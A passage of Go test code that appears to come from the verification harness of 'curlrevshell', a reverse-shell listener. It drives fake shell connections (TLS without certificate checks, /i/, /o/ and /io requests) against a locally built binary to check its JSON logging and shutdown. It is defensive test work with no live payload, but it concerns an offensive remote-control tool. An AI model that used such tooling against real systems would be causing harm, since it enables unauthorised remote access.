		r.Inconclusive("config: binary did not start: " + err.Error())
		return false
	}
	defer s.Close()
	viol := func(key, what string) {
		b, _ := os.ReadFile(st.logf)
		r.Violate("config", ci, key, "configuration "+plan.String()+": "+what, map[string]any{"args": st.args, "env": st.env, "script": script, "log_file_tail": tailS(string(b), 3000), "terminal_tail": tailS(s.P.Clean(), 1500)})
	}
	var t truth
	turned := 0
	pos := 0
	one := plan.oneShell()
	handled := map[string]bool{}
	var last *fakeShell
	nk := len(kinds)
	if plan.attached && !one {
		nk++ // one more shell, attached when the program is told to quit
	}
	for g := 0; g < nk; g++ {
		kind := kinds[g%len(kinds)]
		id := fmt.Sprintf("%sg%d%s", tag, g, []string{"abc", "A-b_c", "x.y", "0"}[(ci+g)%4])
		f, away, ok := attach(r, s, kind, id, &pos, &t, &script, viol)
		if !ok {
			return false
		}
		if away {
			turned++
			continue
		}
		handled[kind] = true
		if !one {
			// an attempt that is refused while the shell is attached
			rid := fmt.Sprintf("%sdup%d", tag, g)
			hk.Get(s.Addr, "", "x", "/i/"+rid)
			t.refused = append(t.refused, conn{"input", rid})
			script = append(script, "refused duplicate input "+rid)
		}
		for k := 0; k < 3; k++ {
			l := fmt.Sprintf("line-%s-%d-%d %s", tag, g, k, []string{`"quoted"`, `back\slash`, `{"msg":"x"}`, "%s%d"}[(ci+g+k)%4])
			if !f.typeLine(s, l, &t, viol) {
				return false
			}
			vis := fmt.Sprintf("<out-%s-%d-%d:", tag, g, k)
			if !f.sendOut(r, s, vis+[]string{`"q"`, "\xff\xfe", "{\"level\":\"INFO\"}\n", "\x01\x02"}[(ci+g+k)%4]+">", vis, &t, viol) {
				return false
			}
		}
		if st.insertSrc != "" {
			script = append(script, "Tab inserts "+filepath.Base(st.insertSrc))
			if !f.insert(r, s, &t, viol) {
				return false
			}
		}
		if g == len(kinds) && !one {
			last = f
			script = append(script, "this shell stays attached")
			break
		}
		switch (ci + g) % 3 {
		case 0:
			f.out.End()
		case 1:
			f.out.Close()
		default:
			f.in.Close()
		}
		loc, ok := s.Wait(`Shell is gone`, pos, crs.Bound)
		if !ok {
			viol("binary-shell-does-not-end", "no gone notice after the client closed")
			return false
		}
		pos = loc[1]
		f.close()
		if one {
			break
		}
	}
	// quit
	var status int
	var sig string
	var exited bool
	if one && turned == 0 {
		// the one shell has come and gone: the program ends by itself, at the
		// latest when the operator presses a key
		if status, sig, exited = s.P.WaitExit(500 * time.Millisecond); !exited {
			s.Ctrl(plan.quitKey)
			status, sig, exited = s.P.WaitExit(crs.Bound)
		}
		script = append(script, "the program ends after its one shell")
	} else {
		script = append(script, "Ctrl+"+string(plan.quitKey))
		s.Ctrl(plan.quitKey)
		status, sig, exited = s.P.WaitExit(crs.Bound)
	}
	if last != nil {
		last.close()
	}
	if !exited || status != 0 {
		r.Inconclusive(fmt.Sprintf("config %d (%s): binary did not exit cleanly (status %d signal %q exited %v)", ci, plan, status, sig, exited))
		return false
	}
	b, err := os.ReadFile(st.logf)
	if err != nil {
		viol("log-file-missing", err.Error())
		return false
	}
	g, badLine := parseLog(b)
	if badLine != "" {
		viol("log-line-not-json", "the log file: "+badLine)
		return false
	}
	if turned > 0 {
		// streams the program answered without attaching them: each needs an
		// error record naming the reason (or, had they been attached after all,
		// connect and disconnect records)
		extraRef := len(g.refused) - len(t.refused)
		extraConn := (len(g.conns) - len(t.conns)) / 2
		if extraRef+extraConn < turned {
			viol("config-stream-turned-away-without-record", fmt.Sprintf("%d shell request(s) were answered by the program without the shell becoming ready; the log has %d error records naming a reason (the %d provoked otherwise included) and %d connect records (%d of attached streams): the log does not say what became of those streams", turned, len(g.refused), len(t.refused), len(g.conns), len(t.conns)))
		} else {
			r.Inconclusive(fmt.Sprintf("config %d (%s): a shell was turned away with a record; admission is not this property's business", ci, plan))
		}
		return false
	}
	compareRecon(&t, g, viol)
	r.Eval(1)
	r.Count("config_runs", 1)
	r.Count("config_log_lines", int64(g.lines))
	r.Count("config_connections", int64(len(g.conns)))
	r.Count("config_refusals", int64(len(g.refused)))
	r.Count("config_input_records", int64(len(g.in)))
	if last != nil {
		r.Count("config_quits_with_shell_attached", 1)
	}
	r.Count("config_quit_by:Ctrl+"+string(plan.quitKey), 1)
	for k := range handled {
		r.Count("config_shells:"+k, 1)
		for _, p := range plan.picks {
			r.Count("config_option:"+cfgOptions[p.opt].name+":shell:"+k, 1)
		}
	}
	r.Distinct("config|" + strings.Join(script, "|"))
	if ci == 1 {
		r.Sample("config", map[string]any{"args": st.args, "env": st.env, "script": script, "log_lines": g.lines})
	}
	return true
}

// configStartupRun: a configuration with which the program ends before it
// listens.  Whatever it wrote to the log file is JSON lines, and of no stream.
func configStartupRun(r *mon.Run, bin string, ci int, plan cfgPlan) bool {
	home := filepath.Join(r.Work, fmt.Sprintf("config-%d", ci))
	os.MkdirAll(home, 0o755)
	st, err := buildSetup(home, plan, fmt.Sprintf("c%d", ci))
	if err != nil {
		r.Inconclusive("config: " + err.Error())
		return false
	}
	p, err := ptyx.Start(ptyx.Opts{Path: bin, Args: st.args, Env: append(crs.Env(home), st.env...), Dir: st.cwd})
	if err != nil {
		r.Inconclusive("config: " + err.Error())
		return false
	}
	defer p.Close()
	status, _, exited := p.WaitExit(crs.Bound)
	if !exited {
		r.Inconclusive(fmt.Sprintf("config %d (%s): the program was expected to end at start-up and did not; terminal: %q", ci, plan, tailS(p.Clean(), 400)))
		return false
	}
	b, err := os.ReadFile(st.logf)
	if err != nil && !os.IsNotExist(err) {
		r.Inconclusive("config: " + err.Error())
		return false
	}
	viol := func(key, what string) {
		r.Violate("config", ci, key, "configuration "+plan.String()+": "+what, map[string]any{"args": st.args, "env": st.env, "exit_status": status, "log_file_tail": tailS(string(b), 3000), "terminal_tail": tailS(p.Clean(), 1500)})
	}
	g, bad := parseLog(b)
	if bad != "" {
		viol("log-line-not-json", "the log file: "+bad)
		return false
	}
	if len(g.conns) > 0 || len(g.in) > 0 || g.out.Len() > 0 || g.ndisc > 0 {
		viol("log-records-without-streams", fmt.Sprintf("the program ended before it listened, yet its log has %d connect, %d disconnect, %d input records and %d bytes of output", len(g.conns), g.ndisc, len(g.in), g.out.Len()))
		return false
	}
	r.Eval(1)
	r.Count("config_runs_ending_at_startup", 1)
	r.Distinct("config|startup|" + strings.Join(st.args, " "))
	return true
}

func configCase(r *mon.Run, bin string, ci int, plan cfgPlan) {
	ok := true
	if plan.endsAtStartup() {
		ok = configStartupRun(r, bin, ci, plan)
	} else if plan.oneShell() {
		// one shell per run: a run for each kind of shell
		a, b := "uni", "io"
		if plan.ioFirst {
			a, b = b, a
		}
		ok = configRun(r, bin, ci, plan, []string{a}, "a") && ok
		ok = configRun(r, bin, ci, plan, []string{b}, "b") && ok
	} else {
		kinds := []string{"uni", "io"}
		if plan.ioFirst {
			kinds = []string{"io", "uni"}
		}
		ok = configRun(r, bin, ci, plan, kinds, "")
	}
	if !ok {
		return
	}
	r.Count("config_cases", 1)
	for _, p := range plan.picks {
		r.Count("config_option:"+cfgOptions[p.opt].name, 1)
		r.Count("config_variant:"+p.String(), 1)
	}
	if len(plan.picks) == 2 {
		r.Count("config_pairs", 1)
		r.Count("config_pair:"+cfgOptions[plan.picks[0].opt].name+"+"+cfgOptions[plan.picks[1].opt].name, 1)
	} else {
		r.Count("config_singles", 1)
	}
	r.Count("config_spelling:"+cfgSpellings[plan.spelling], 1)
	if plan.twice {
		r.Count("config_flag_given_twice", 1)
	}
}

func configMatrix(r *mon.Run, bin string) {
	plans := planConfigs(r.Seed, r.Thorough())
	mon.Parallel(len(plans), 6, func(i int) {
		if r.Want("config", i) {
			configCase(r, bin, i, plans[i])
		}
	})
	// floors, from the plans themselves
	want := map[string]int64{}
	for _, p := range plans {
		want["config_cases"]++
		for _, k := range p.picks {
			want["config_option:"+cfgOptions[k.opt].name]++
			want["config_variant:"+k.String()]++
			if !p.endsAtStartup() {
				want["config_option:"+cfgOptions[k.opt].name+":shell:uni"]++
				want["config_option:"+cfgOptions[k.opt].name+":shell:io"]++
			}
		}
		if len(p.picks) == 2 {
			want["config_pairs"]++
			want["config_pair:"+cfgOptions[p.picks[0].opt].name+"+"+cfgOptions[p.picks[1].opt].name]++
		} else {
			want["config_singles"]++
		}
		want["config_spelling:"+cfgSpellings[p.spelling]]++
		if p.twice {
			want["config_flag_given_twice"]++
		}
		if p.endsAtStartup() {
			want["config_runs_ending_at_startup"]++
			continue
		}
		if p.attached && !p.oneShell() {
			want["config_quits_with_shell_attached"]++
		}
		want["config_shells:uni"]++
		want["config_shells:io"]++
		want["config_runs"]++
		if p.oneShell() {
			want["config_runs"]++
		} else {
			want["config_quit_by:Ctrl+"+string(p.quitKey)]++
		}
	}
	for k, v := range want {
		r.Floor(k, v)
	}
	for _, o := range cfgOptions {
		if want["config_option:"+o.name] < 2 {
			r.Floor("config_option:"+o.name, 2) // alone and in a pair at least
		}
	}
	for _, sp := range cfgSpellings {
		if want["config_spelling:"+sp] == 0 {
			r.Floor("config_spelling:"+sp, 1)
		}
	}
	r.Floor("config_flag_given_twice", 1)
	// (Tab is only pressed where -ctrl-i names a .sh file and the program keeps running:
	// whether the quick plan has such a case depends on the seed)
	for _, p := range plans {
		for _, k := range p.picks {
			if cfgOptions[k.opt].name == "ctrl-i" && cfgOptions[k.opt].variants[k.variant] == "file" && !p.endsAtStartup() {
				r.Floor("config_inserts", 1)
			}
		}
	}
	r.Floor("config_quits_with_shell_attached", 1)
}

// ---- engine stall ----------------------------------------------------------

var (
	stallStuffs = []string{"big-insert", "typed-lines", "output-burst", "terminal-behind"}
)

type stallPlan struct {
	kind    string // uni / io
	stuff   string
	quitKey byte
	hangup  time.Duration // how long after the quit key the client hangs up
	cfg     cfgPlan       // another option of the matrix
}

func planStalls(seed int64, thorough bool) []stallPlan {
	n := 6
	if thorough {
		n = 18
	}
	sd := int(seed % 1000)
	if sd < 0 {
		sd = -sd
	}
	var out []stallPlan
	for i := 0; i < n; i++ {
		p := stallPlan{
			kind:    []string{"uni", "io"}[(i+sd)%2],
			stuff:   stallStuffs[[]int{0, 0, 1, 1, 2, 3}[(i+i/6)%6]],
			quitKey: "DC"[(i/2+i+sd)%2],
			hangup:  time.Duration(3000+((i*1700+sd*900)%5000)) * time.Millisecond,
		}
		// the other option: anything but -ctrl-i (the case brings its own) and -one-shell
		o := 1 + (i+sd)%(cfgStreamOptions-1)
		if cfgOptions[o].name == "ctrl-i" {
			o++
		}

		p.cfg = cfgPlan{picks: []cfgPick{{o, (i + sd) % len(cfgOptions[o].variants)}}, spelling: (i + sd) % len(cfgSpellings)}
		out = append(out, p)
	}
	return out
}

// dialSmall is a TLS connection whose receive buffer is small, of a client
// that will stop reading.
func dialSmall(addr string) (*tls.Conn, error) {
	d := &net.Dialer{Timeout: crs.Bound}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	raw.(*net.TCPConn).SetReadBuffer(4096)
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true})
	c.SetDeadline(time.Now().Add(crs.Bound))
	if err := c.Handshake(); err != nil {
		raw.Close()
		return nil, err
	}
	c.SetDeadline(time.Time{})
	return c, nil
}

func stallCase(r *mon.Run, bin string, si int, plan stallPlan) {
	home := filepath.Join(r.Work, fmt.Sprintf("stall-%d", si))
	os.MkdirAll(home, 0o755)
	tag := fmt.Sprintf("s%d", si)
	big := filepath.Join(home, "big insert.sh")
	bigSize := (24 + si%3*8) << 20
	{
		line := []byte("# " + strings.Repeat("x", 61) + "\n")
		f, err := os.Create(big)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		w := bufio.NewWriterSize(f, 1<<20)
		for i := 0; i < bigSize/len(line); i++ {
			w.Write(line)
		}
		w.Flush()
		f.Close()
	}
	defer os.Remove(big)
	st, err := buildSetup(home, plan.cfg, tag, flagArg{name: "ctrl-i", val: big})
	if err != nil {
		r.Inconclusive("stall: " + err.Error())
		return
	}
	script := []string{fmt.Sprintf("%s shell, %s, Ctrl+%c, the client hangs up %v later; also %s", plan.kind, plan.stuff, plan.quitKey, plan.hangup, plan.cfg)}
	s, err := st.start(bin, home)
	if err != nil {
		r.Inconclusive("stall: binary did not start: " + err.Error())
		return
	}
	defer s.Close()
	viol := func(key, what string) {
		b, _ := os.ReadFile(st.logf)
		r.Violate("stall", si, key, script[0]+": "+what, map[string]any{"args": st.args, "script": script, "log_file_tail": tailS(string(b), 3000), "terminal_tail": tailS(s.P.Clean(), 1500)})
	}
	// the shell: its input side has a small receive buffer
	id := tag + "x"
	var inC, outC *tls.Conn
	if inC, err = dialSmall(s.Addr); err != nil {
		r.Inconclusive("stall: " + err.Error())
		return
	}
	defer inC.Close()
	var conns []conn
	if plan.kind == "io" {
		outC = inC
		_, err = io.WriteString(inC, "POST /io HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n")
		conns = []conn{{"input", ""}, {"output", ""}}
	} else {
		_, err = io.WriteString(inC, "GET /i/"+id+" HTTP/1.1\r\nHost: fake.shell\r\n\r\n")
		if err == nil {
			if _, ok := s.Wait(`Input connected`, 0, crs.Bound); !ok {
				viol("binary-shell-does-not-attach", "no 'Input connected' notice")
				return
			}
			if outC, err = dialSmall(s.Addr); err == nil {
				defer outC.Close()
				_, err = io.WriteString(outC, "POST /o/"+id+" HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n")
			}
		}
		conns = []conn{{"input", id}, {"output", id}}
	}
	if err != nil {
		r.Inconclusive("stall: " + err.Error())
		return
	}
	if _, ok := s.Wait(`Shell is ready`, 0, crs.Bound); !ok {
		viol("binary-shell-does-not-attach", "no ready notice")
		return
	}
	// two lines the shell does read
	br := bufio.NewReader(inC)
	var known []string
	var wantNext []string // what may follow in the input records, in order
	for k := 0; k < 2; k++ {
		l := fmt.Sprintf("line-%s-%d before the shell stops reading", tag, k)
		s.Line(l)
		inC.SetReadDeadline(time.Now().Add(crs.Bound))
		for {
			got, err := br.ReadString('\n')
			if err != nil {
				r.Inconclusive("stall: the shell did not get its line: " + err.Error())
				return
			}
			if strings.TrimRight(got, "\r\n") == l {
				break
			}
		}
		known = append(known, l+"\n")
	}
	inC.SetReadDeadline(time.Time{})
	// from here on the shell does not read its input any more
	var sent strings.Builder
	paused := false
	switch plan.stuff {
	case "big-insert":
		from := s.P.CleanLen()
		s.Type("\t")
		if _, ok := s.Wait(insertedRe, from, crs.Bound); !ok {
			viol("binary-insert-not-done", "no 'Inserted n bytes' notice after Tab")
			return
		}
		script = append(script, fmt.Sprintf("Tab inserts %d bytes, which the shell does not read", bigSize))
	case "typed-lines":
		// long lines (the line editor takes up to 4096 bytes a line), more of
		// them than the connection's buffers hold, but not so many more that the
		// program's own queue of 1024 lines overflows
		filler := strings.Repeat("0123456789abcdef", 250)
		for k := 0; k < 1500; k++ {
			l := fmt.Sprintf("stuff-%s-%d %s", tag, k, filler)
			s.Line(l)
			wantNext = append(wantNext, l+"\n")
		}
		// the last one typed has been echoed: the program has read them all
		if _, ok := s.Wait(fmt.Sprintf("stuff-%s-1499 ", tag), 0, 2*crs.Bound); !ok {
			r.Inconclusive("stall: the typed lines were not taken")
			return
		}
		script = append(script, fmt.Sprintf("1500 lines of %d bytes typed, which the shell does not read", len(filler)+20))
	case "output-burst", "terminal-behind":
		// the shell sends a lot at once; the terminal may not be read any more
		if plan.stuff == "terminal-behind" {
			s.P.PauseReading()
			paused = true
		}
		chunk := strings.Repeat("output the terminal is behind with 0123456789\n", 1400)
		outC.SetWriteDeadline(time.Now().Add(2 * time.Second))
		for k := 0; k < []int{10, 64}[si%2]; k++ {
			c := fmt.Sprintf("%x\r\n%s\r\n", len(chunk), chunk)
			n, err := io.WriteString(outC, c)
			_ = n
			if err != nil {
				break // the program is behind: the rest never gets there
			}
			sent.WriteString(chunk)
		}
		outC.SetWriteDeadline(time.Time{})
		script = append(script, fmt.Sprintf("%d bytes of output sent at once (terminal read: %v)", sent.Len(), !paused))
	}
	time.Sleep(300 * time.Millisecond)
	// quit; the client hangs up only later
	s.Ctrl(plan.quitKey)
	var wg sync.WaitGroup
	wg.Add(1)
	waited := false
	go func() {
		defer wg.Done()
		time.Sleep(plan.hangup)
		waited = !s.P.Exited()
		if paused {
			s.P.ResumeReading()
		}
		inC.Close()
		if outC != nil {
			outC.Close()
		}
	}()
	status, _, exited := s.P.WaitExit(plan.hangup + 20*time.Second)
	wg.Wait()
	if !exited {
		// The program is still there although every client is gone.  Whether it
		// ever ends is not this property's business; the records of the streams,
		// which have all ended, are: give them the same time once more.
		deadline := time.Now().Add(20 * time.Second)
		for {
			b, _ := os.ReadFile(st.logf)
			if g, bad := parseLog(b); bad == "" && len(g.conns) == len(conns) && g.ndisc == len(g.conns) {
				break
			}
			if time.Now().After(deadline) {
				r.Inconclusive(fmt.Sprintf("stall %d (%s): the program did not exit after the client hung up and the log is not complete; terminal: %q", si, script[0], tailS(s.P.Clean(), 600)))
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
		r.Count("stall_program_did_not_exit", 1)
		script = append(script, "the program did not exit by itself")
		s.Close()
	}
	b, err := os.ReadFile(st.logf)
	if err != nil {
		viol("log-file-missing", err.Error())
		return
	}
	g, badLine := parseLog(b)
	if badLine != "" {
		viol("log-line-not-json", "the log file: "+badLine)
		return
	}
	if !sameConns(conns, g.conns) {
		viol("binary-log-connections-differ", fmt.Sprintf("connections reconstructed from the log %v differ from the ones made %v", g.conns, conns))
		return
	}
	if g.ndisc != len(g.conns) {
		viol("stall-stream-without-disconnect-record", fmt.Sprintf("the program has exited (status %d, before the client hung up: %v) and the log has %d Disconnected records for %d New connection records: an accepted stream has no disconnect record", status, !waited, g.ndisc, len(g.conns)))
		return
	}
	// input records: the lines the shell read, then no more than the lines typed
	// afterwards, in order (the big insertion cannot have been delivered: the
	// shell never read it)
	okIn := len(g.in) >= len(known)
	for i := 0; okIn && i < len(g.in); i++ {
		switch {
		case i < len(known):
			okIn = g.in[i] == known[i]
		case i-len(known) < len(wantNext):
			okIn = g.in[i] == wantNext[i-len(known)]
		default:
			okIn = false
		}
	}
	if !okIn {
		viol("binary-log-input-differs", fmt.Sprintf("%d input records %q; the shell read %q and then nothing, %d lines were typed after that", len(g.in), trunc(strings.Join(g.in, "")), known, len(wantNext)))
		return
	}
	if !strings.HasPrefix(sent.String(), g.out.String()) {
		viol("binary-log-output-differs", fmt.Sprintf("output reconstructed from the log (%d bytes) is not a prefix of the %d bytes sent", g.out.Len(), sent.Len()))
		return
	}
	r.Eval(1)
	r.Count("stall_cases", 1)
	r.Count("stall_stuff:"+plan.stuff, 1)
	r.Count("stall_shell:"+plan.kind, 1)
	r.Count("stall_quit_by:Ctrl+"+string(plan.quitKey), 1)
	r.Count("stall_option:"+cfgOptions[plan.cfg.picks[0].opt].name, 1)
	if waited {
		r.Count("stall_exit_waited_for_the_client", 1)
		r.Count("stall_exit_waited_for_the_client:"+plan.stuff, 1)
	}
	r.Count("stall_undelivered_typed_lines", int64(len(known)+len(wantNext)-len(g.in)))
	r.Distinct("stall|" + script[0])
	if si == 0 {
		r.Sample("stall", map[string]any{"args": st.args, "script": script, "waited_for_client": waited, "input_records": len(g.in)})
	}
}

// stallShutdowns starts the stall cases (they need real time, 3-8 s each) and
// returns the function that waits for them and sets the floors.
func stallShutdowns(r *mon.Run, bin string) (wait func()) {
	plans := planStalls(r.Seed, r.Thorough())
	var wg sync.WaitGroup
	sem := make(chan struct{}, 6)
	for i := range plans {
		if !r.Want("stall", i) {
			continue
		}
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			stallCase(r, bin, i, plans[i])
		}(i)
	}
	return func() {
		wg.Wait()
		want := map[string]int64{}
		for _, p := range plans {
			want["stall_cases"]++
			want["stall_stuff:"+p.stuff]++
			want["stall_shell:"+p.kind]++
			want["stall_quit_by:Ctrl+"+string(p.quitKey)]++
		}
		for k, v := range want {
			r.Floor(k, v)
		}
		for _, k := range []string{"stall_shell:uni", "stall_shell:io", "stall_quit_by:Ctrl+D", "stall_quit_by:Ctrl+C"} {
			if want[k] == 0 {
				r.Floor(k, 1)
			}
		}
		for _, st := range stallStuffs {
			if want["stall_stuff:"+st] == 0 {
				r.Floor("stall_stuff:"+st, 1)
			}
		}
		// a stream that could not end at once: the program was still there when
		// the client hung up
		r.Floor("stall_exit_waited_for_the_client", 1)
	}
}

func configEngine(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	configMatrix(r, bin)
}

// Package c11: the JSON log is a complete, ordered transcript of shell I/O
// and connections.
package c11

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"runtime"
	"strings"
	"time"
	"unicode/utf8"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

const Level = "exploration"

// toValid is what a JSON string can carry of raw bytes: every invalid byte
// becomes U+FFFD (computed rune by rune, independently of encoding/json).
func toValid(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && n == 1 {
			sb.WriteRune('�')
		} else {
			sb.WriteString(s[i : i+n])
		}
		i += n
	}
	return sb.String()
}

var nasty = []string{
	`"`, `\`, `\"`, "\n", "\r\n", "\t", "\x00", "\x01\x02\x1f", "\x7f", " ", " ", "�", "\xff", "\xc3\x28", "\xe2\x82", "\xf0\x9f\x98", "😀", `{"msg":"Shell I/O","data":"fake"}`, "\n{\"level\":\"INFO\"}\n", `\u0000`, "</script>", "&<>", "é", "\xed\xa0\x80",
}

func genData(rng *rand.Rand, line bool) string {
	var sb strings.Builder
	n := rng.IntN(6)
	for i := 0; i < n; i++ {
		switch rng.IntN(3) {
		case 0:
			sb.WriteString(nasty[rng.IntN(len(nasty))])
		case 1:
			fmt.Fprintf(&sb, "w%d", rng.IntN(1000))
		default:
			b := make([]byte, rng.IntN(12))
			for j := range b {
				b[j] = byte(rng.Uint32())
			}
			sb.Write(b)
		}
	}
	if rng.IntN(40) == 0 {
		sb.WriteString(strings.Repeat("L", 1<<(10+rng.IntN(8))))
	}
	s := sb.String()
	if !line && s == "" {
		s = "x"
	}
	return s
}

func hasAtt(line string, att int) bool {
	return strings.Contains(line, fmt.Sprintf(`"att":%d,`, att)) || strings.Contains(line, fmt.Sprintf(`"att":%d}`, att))
}

type rec struct {
	seq int
	m   map[string]any
	raw string
}

func (r rec) str(k string) string { s, _ := r.m[k].(string); return s }
func (r rec) att() int {
	f, ok := r.m["att"].(float64)
	if !ok {
		return -1
	}
	return int(f)
}

func runSession(r *mon.Run, idx int) {
	rng := r.Rng("session", idx)
	w, err := bk.NewWorld([]int{0, 1, 16, 1024}[rng.IntN(4)], 1024)
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	w.JSON = true
	var script []string
	note := func(f string, a ...any) { script = append(script, fmt.Sprintf(f, a...)) }
	viol := func(key, what string) {
		r.Violate("session", idx, key, what, map[string]any{"script": script, "log_tail": w.Log.Tail(40)})
	}
	waitJSON := func(from int, att int, msg string) bool {
		_, ok := w.Log.Wait(from, bk.Bound, func(e bk.Event) bool {
			return e.Kind == "json" && strings.Contains(e.S, fmt.Sprintf(`"msg":%q`, msg)) && hasAtt(e.S, att)
		})
		return ok
	}
	gens := 1 + rng.IntN(4)
	stalled := false
	nline := 0
	var refusedAtts []*bk.Attempt
	for g := 0; g < gens && !stalled; g++ {
		bidir := rng.IntN(3) == 0
		key := fmt.Sprintf("key-%d-%s", g, []string{"a", `q"uote`, "sp ace", "é", "%s"}[rng.IntN(5)])
		wk := bk.WriterKind(rng.IntN(4))
		var in, out *bk.Attempt
		from := w.Log.Len()
		if bidir {
			in = w.NewAttempt("io", "", wk)
			out = in
			in.Start()
			note("gen %d: io attempt %d (%s)", g, in.ID, wk)
		} else {
			in = w.NewAttempt("in", key, wk)
			out = w.NewAttempt("out", key, bk.WPlain)
			if rng.IntN(2) == 0 {
				in.Start()
				stalled = stalled || !waitJSON(from, in.ID, bk.MsgNew)
				out.Start()
			} else {
				out.Start()
				stalled = stalled || !waitJSON(from, out.ID, bk.MsgNew)
				in.Start()
			}
			note("gen %d: in attempt %d (%s), out attempt %d, key %q", g, in.ID, wk, out.ID, key)
		}
		// both sides attached?
		ok1 := waitJSON(from, in.ID, bk.MsgNew)
		_, ok2 := w.Log.Wait(from, bk.Bound, func(e bk.Event) bool {
			return e.Kind == "json" && strings.Contains(e.S, `"direction":"output"`) && strings.Contains(e.S, `"msg":"New connection"`) && hasAtt(e.S, out.ID)
		})
		if !ok1 || !ok2 {
			r.Inconclusive(fmt.Sprintf("session %d: generation %d did not attach", idx, g))
			stalled = true
			break
		}
		// traffic, refusals interleaved
		steps := 3 + rng.IntN(25)
		failAt := -1
		ending := []string{"out-eof", "in-cancel", "out-cancel", "werr", "ferr", "out-err"}[rng.IntN(6)]
		if ending == "ferr" && !(wk == bk.WFlushError || wk == bk.WBoth) {
			ending = "werr"
		}
		for s := 0; s < steps; s++ {
			switch v := rng.IntN(10); {
			case v < 4:
				l := fmt.Sprintf("#%d:", nline) + genData(rng, true)
				nline++
				pos := w.Log.Len()
				w.Ich <- l
				// lock-step so that ground truth is simple: wait for the write (and flush)
				w.Log.Wait(pos, bk.Bound, func(e bk.Event) bool {
					if e.Att != in.ID {
						return false
					}
					if wk == bk.WPlain {
						return e.Kind == "w"
					}
					return e.Kind == "f"
				})
			case v < 8:
				c := genData(rng, false)
				pos := w.Log.Len()
				out.Rd.PushData(c)
				want := len(c)
				got := 0
				w.Log.Wait(pos, bk.Bound, func(e bk.Event) bool {
					if e.Kind == "op" && e.Plain {
						got += len(e.S)
					}
					return got >= want
				})
			default:
				// an attempt that must be refused
				var a *bk.Attempt
				switch rng.IntN(4) {
				case 0:
					a = w.NewAttempt("in", key, bk.WPlain)
				case 1:
					a = w.NewAttempt("out", key+"x", bk.WPlain)
				case 2:
					a = w.NewAttempt("in", "", bk.WPlain)
				default:
					a = w.NewAttempt("io", "", bk.WPlain)
				}
				a.Rd.PushData("REFUSED-OUTPUT")
				a.Start()
				select {
				case <-a.Ret:
				case <-time.After(bk.Bound):
					viol("refused-attempt-not-ended", fmt.Sprintf("attempt %d should have been refused at once", a.ID))
					stalled = true
				}
				refusedAtts = append(refusedAtts, a)
				note("refused attempt %d (%s key %q)", a.ID, a.Kind, a.Key)
			}
			if stalled {
				break
			}
		}
		_ = failAt
		// ending
		note("gen %d ends by %s", g, ending)
		switch ending {
		case "out-eof":
			out.Rd.Push(bk.ReadItem{Data: []byte("last-with-eof;"), Err: io.EOF})
		case "out-err":
			out.Rd.Push(bk.ReadItem{Err: bk.ErrInjected})
		case "in-cancel", "out-cancel":
			// optionally with output in flight towards a stalled terminal: chunks that
			// are never handed over must not be logged
			var resume func()
			if rng.IntN(2) == 0 {
				resume = w.StallOperator()
				for k := 0; k < 6; k++ {
					out.Rd.PushData(fmt.Sprintf("inflight-%d-%d;", g, k))
				}
				for k := 0; k < 30; k++ {
					runtime.Gosched()
				}
				time.Sleep(time.Duration(rng.IntN(300)) * time.Microsecond)
				note("gen %d: output in flight towards a stalled terminal", g)
			}
			if ending == "in-cancel" {
				in.Cancel()
			} else {
				out.Cancel()
			}
			if resume != nil {
				time.Sleep(time.Duration(rng.IntN(300)) * time.Microsecond)
				resume()
			}
		case "werr":
			in.Wr.FailWrite(0, rng.IntN(2) == 0)
			w.Ich <- fmt.Sprintf("#%d:lost-to-write-error", nline)
			nline++
		case "ferr":
			in.Wr.FailFlush(0)
			w.Ich <- fmt.Sprintf("#%d:lost-to-flush-error", nline)
			nline++
		}
		for _, a := range []*bk.Attempt{in, out} {
			select {
			case <-a.Ret:
			case <-time.After(bk.Bound):
				a.Cancel() // a half of a bidirectional pair may legitimately linger: end it
				select {
				case <-a.Ret:
				case <-time.After(bk.Bound):
					viol("connect-does-not-return", fmt.Sprintf("attempt %d did not return", a.ID))
					stalled = true
				}
			}
			a.CloseTransport()
		}
	}
	// quiescence: marker through the operator channel
	w.Och <- opshell.CLine{Line: "MARK-END"}
	mev, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == "MARK-END" })
	if !ok || stalled {
		w.Close()
		if !ok {
			r.Inconclusive("marker lost")
		}
		return
	}
	evs := w.Log.Snapshot()[:mev.Seq]
	judge(r, idx, evs, w, refusedAtts, viol)
	w.Close()
	r.Eval(1)
	r.Distinct(strings.Join(script, "|") + fmt.Sprint(nline))
	if idx < 2 {
		var recs []string
		for _, e := range evs {
			if e.Kind == "json" && len(recs) < 8 {
				recs = append(recs, strings.TrimSpace(e.S))
			}
		}
		r.Sample("session", map[string]any{"script": script, "first_records": recs})
	}
}

// isRefusalRecord: an error-level record that names why a stream was not
// attached (anything but the record of an attached stream's ending).
func isRefusalRecord(level, msg string) bool {
	return level == "ERROR" && msg != "" && msg != bk.MsgDisconnected && msg != bk.MsgShellIO && msg != bk.MsgNew
}

func judge(r *mon.Run, idx int, evs []bk.Event, w *bk.World, refused []*bk.Attempt, viol func(key, what string)) {
	// 1. framing: every handler write is exactly one JSON object on one line
	var recs []rec
	for _, e := range evs {
		if e.Kind != "json" {
			continue
		}
		r.Count("json_lines", 1)
		if !strings.HasSuffix(e.S, "\n") || strings.Count(e.S, "\n") != 1 {
			viol("log-line-framing", fmt.Sprintf("a log write is not exactly one newline-terminated line: %q", trunc(e.S)))
			continue
		}
		var m map[string]any
		dec := json.NewDecoder(strings.NewReader(e.S))
